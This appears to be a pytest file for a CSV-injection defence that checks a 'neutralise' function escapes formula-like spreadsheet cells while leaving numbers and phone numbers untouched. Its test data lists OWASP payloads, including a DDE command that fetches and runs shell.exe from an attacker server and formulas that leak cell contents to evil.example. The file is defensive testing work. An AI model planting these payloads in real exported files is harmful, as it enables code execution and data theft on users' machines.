"""OWASP's CSV-injection payloads reach a spreadsheet as text; numbers and phones stay as they are."""

from __future__ import annotations

import pytest

from waadmin.domain.spreadsheet_cells import neutralise

# From OWASP's "CSV Injection" page and its cheat sheet, plus the cases the old rule let through
# (a digit in second place, a tab or a carriage return first).
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=1+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@1+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
    "\t=1+cmd|' /C calc'!A0",
    "\r=1+cmd|' /C calc'!A0",
    "\t1",
    "+33 6 12 34 56 78=1+1",
    "-",
    "+",
    "=",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    ["-3", "+1.5", "-0,25", "-1e5", "42", "+22370000000", "+86 138 0013 8000", "+223 70 00 00 00"],
)
def test_a_plain_number_or_a_phone_number_is_left_as_it_is(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["", "Votre colis est arrivé", "1+1", "a=1", " =1+1 is fine after a space"])
def test_text_that_does_not_start_a_formula_is_unchanged(value: str) -> None:
    assert neutralise(value) == value
